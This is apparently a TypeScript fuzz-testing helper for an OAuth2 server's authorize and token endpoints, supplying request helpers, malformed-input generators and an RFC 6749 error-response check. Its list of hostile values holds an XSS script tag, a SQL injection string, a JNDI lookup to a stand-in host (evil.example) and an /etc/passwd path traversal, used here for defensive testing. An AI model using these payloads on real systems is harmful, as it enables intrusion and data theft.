import fc from 'fast-check';
import { expect } from 'vitest';
import { basic } from '../stack.ts';

/**
 * Generic hostile values for the property tests at /oauth2/authorize and /oauth2/token
 * (authorize.properties.e2e.test.ts, token.properties.e2e.test.ts), and the request helpers and the
 * RFC 6749 §5.2 error check they share.
 */

export const RUNS = { numRuns: Number(process.env.PROPERTY_RUNS ?? 150) };
export const TIMEOUT_MS = 5_000;
export const JWT_BEARER = 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer';
export const TOKEN_ERRORS = [
  'invalid_request',
  'invalid_client',
  'invalid_grant',
  'unauthorized_client',
  'unsupported_grant_type',
  'invalid_scope',
  'invalid_target',
];
/** RFC 6749 §5.2: error_description is %x20-21 / %x23-5B / %x5D-7E */
export const DESCRIPTION = /^[\x20-\x21\x23-\x5b\x5d-\x7e]*$/;
export const NATIVE_REDIRECT = 'http://127.0.0.1/cb';
export const CHALLENGE = 'E9Melhoa2OwvFrEMTJguCHaoeK1t8URWbuGJSstw-cM';

export type Pairs = [string, string][];

/** Every request has a deadline: a hang fails the property with a TimeoutError. */
export const send = (url: string, init: RequestInit & { duplex?: 'half' } = {}) =>
  fetch(url, { ...init, redirect: 'manual', signal: AbortSignal.timeout(TIMEOUT_MS) });

export const encode = (pairs: Pairs) => {
  const params = new URLSearchParams();
  for (const [k, v] of pairs) params.append(k, v);
  return params.toString();
};

export const b64u = (value: string | object) =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url');
export const b64 = (value: string) => Buffer.from(value).toString('base64');
/** `basic()` without its URIError on lone surrogates */
export const basicOf = (id: string, secret: string) => {
  try {
    return basic(id, secret);
  } catch {
    return `Basic ${b64(`${id}:${secret}`)}`;
  }
};

// ---------------------------------------------------------------------------------------------
// Generic hostile values

export const specials = fc.constantFrom(
  '',
  ' ',
  '\t',
  '+',
  '%',
  '%%',
  '%zz',
  '%00',
  '\u0000',
  '\r\n',
  '\n',
  '\uD800',
  '\uDFFF',
  '\uFEFF',
  '\u202E',
  '😀',
  'null',
  'undefined',
  'true',
  '0',
  '-1',
  '1e999',
  '[]',
  '{}',
  '[object Object]',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  ['$', '{jndi:ldap://evil.example/a}'].join(''),
  '../../../../etc/passwd',
  'a&b=c',
  'a=b',
  '#',
  '?',
);

export const huge = fc.oneof(
  fc
    .tuple(
      fc.constantFrom('a', 'é', '\u0000', '%', '😀', 'A_-', '+', '&', '%25', ' '),
      fc.integer({ min: 1_000, max: 20_000 }),
    )
    .map(([unit, n]) => unit.repeat(Math.ceil(n / unit.length)).slice(0, n)),
  fc.string({ unit: 'binary', minLength: 1_000, maxLength: 20_000, size: 'max' }),
);

/** arbitrary ASCII and unicode strings, known troublemakers, and huge strings */
export const text = fc.oneof(
  { arbitrary: fc.string(), weight: 3 },
  { arbitrary: fc.string({ unit: 'binary' }), weight: 3 },
  { arbitrary: fc.string({ unit: 'grapheme' }), weight: 1 },
  { arbitrary: specials, weight: 3 },
  { arbitrary: huge, weight: 1 },
);

/** the same, without the huge ones: for values that must fit in a request header (16 KiB in Node) */
export const smallText = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary' }),
  fc.string({ unit: 'grapheme' }),
  specials,
);

/** what fetch and Node's HTTP parser accept as a header value (ByteString, no CR, LF, NUL or DEL) */
export const headerChar = fc
  .oneof(fc.integer({ min: 0x20, max: 0x7e }), fc.integer({ min: 0x80, max: 0xff }), fc.constant(0x09))
  .map((c) => String.fromCharCode(c));
export const headerJunk = fc.oneof(
  fc.string({ unit: headerChar }),
  fc.string({ unit: headerChar, minLength: 500, maxLength: 4_000, size: 'max' }),
);

export const base64urlChar = fc.constantFrom(
  ...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'.split(''),
);
export const b64Junk = fc.string({ unit: base64urlChar, maxLength: 200 });

export const knownAuthorizeParameters = [
  'response_type',
  'client_id',
  'redirect_uri',
  'scope',
  'state',
  'code_challenge',
  'code_challenge_method',
  'prompt',
  'grant_management_action',
  'grant_id',
  'resource',
  'request',
  'request_uri',
];
export const knownTokenParameters = [
  'grant_type',
  'code',
  'redirect_uri',
  'code_verifier',
  'refresh_token',
  'scope',
  'resource',
  'client_id',
  'client_secret',
  'client_assertion_type',
  'client_assertion',
];
export const parameterName = (known: string[]) =>
  fc.oneof(
    { arbitrary: fc.constantFrom(...known), weight: 3 },
    {
      arbitrary: fc.constantFrom(
        '__proto__',
        'constructor',
        'toString',
        'hasOwnProperty',
        'client_id[]',
        'client_id[0]',
        'client_id.x',
        'nonce',
        'response_mode',
        'display',
        'max_age',
        'claims',
        'id_token_hint',
        'login_challenge',
        'consent_challenge',
        'iss',
        'error',
        'code',
        'access_token',
        'authorization_details',
        'dpop_jkt',
      ),
      weight: 2,
    },
    { arbitrary: text, weight: 1 },
  );

/** raw query/form text: separators and broken percent-escapes that URLSearchParams would never produce */
export const rawEncoded = fc.string({
  unit: fc.constantFrom(
    '%',
    '&',
    '=',
    '+',
    ';',
    'a',
    '0',
    'F',
    'z',
    '[',
    ']',
    '.',
    ' ',
    '%00',
    '%zz',
    '%E0%A4',
    '%C3',
    '%ED%A0%80',
    '%FF',
    'client_id',
    'redirect_uri',
    'grant_type',
    'code',
    'refresh_token',
    'authorization_code',
    'state',
  ),
  maxLength: 40,
});

export const contentTypes = fc.oneof(
  fc.constantFrom(
    'application/x-www-form-urlencoded',
    'application/x-www-form-urlencoded; charset=utf-8',
    'application/x-www-form-urlencoded; charset=iso-8859-1',
    'application/x-www-form-urlencoded; charset=utf-16',
    'application/x-www-form-urlencoded; charset="',
    'APPLICATION/X-WWW-FORM-URLENCODED',
    'application/x-www-form-urlencoded;;;',
    'application/x-www-form-urlencoded, application/json',
    'application/json',
    'text/plain',
    'text/html',
    'multipart/form-data; boundary=x',
    'multipart/form-data',
    'application/xml',
    'application/octet-stream',
    '*/*',
    'application/*',
    'x',
    ';',
    '/',
    '',
  ),
  headerJunk,
);

/** mostly nothing, now and then some */
export const sometimes = <T>(arbitrary: fc.Arbitrary<T[]>) =>
  fc.oneof({ arbitrary: fc.constant([] as T[]), weight: 4 }, { arbitrary, weight: 1 });

export type Edit = [name: string, value: string | undefined];
/** up to four edits of a request: [name, value] replaces a parameter, [name, undefined] removes it */
export const editsOf = (hostile: Record<string, fc.Arbitrary<string>>): fc.Arbitrary<Edit[]> =>
  fc.array(
    fc.oneof(
      ...Object.entries(hostile).map(([name, value]) =>
        fc.tuple(fc.constant(name), fc.option(value, { nil: undefined, freq: 6 })),
      ),
    ),
    { maxLength: 4 },
  );
export const applyEdits = (base: Pairs, edits: Edit[]): Pairs => {
  const params = new Map<string, string | undefined>(base);
  for (const [name, value] of edits) params.set(name, value);
  return [...params].filter(([, v]) => v !== undefined) as Pairs;
};

/** a hostile value for one parameter: mostly a known-bad variant, else junk */
export const bad = (variants: string[]) =>
  fc.oneof({ arbitrary: fc.constantFrom(...variants), weight: 3 }, { arbitrary: text, weight: 1 });

// ---------------------------------------------------------------------------------------------

export const expectTokenError = async (res: Response, what: string) => {
  const text = await res.text();
  const seen = `${what} -> ${res.status} ${res.headers.get('content-type')} ${text.slice(0, 300)}`;
  expect(res.status, seen).toBeGreaterThanOrEqual(400);
  expect(res.status, seen).toBeLessThan(500);
  expect(res.headers.get('cache-control'), seen).toBe('no-store');
  expect(res.headers.get('content-type') ?? '', seen).toMatch(/^application\/json(;|$)/);
  let body: { error?: unknown; error_description?: unknown };
  try {
    body = JSON.parse(text);
  } catch {
    throw new Error(`not JSON: ${seen}`);
  }
  expect(TOKEN_ERRORS, seen).toContain(body.error);
  if (body.error_description !== undefined) {
    expect(typeof body.error_description, seen).toBe('string');
    expect(body.error_description as string, seen).toMatch(DESCRIPTION);
  }
};
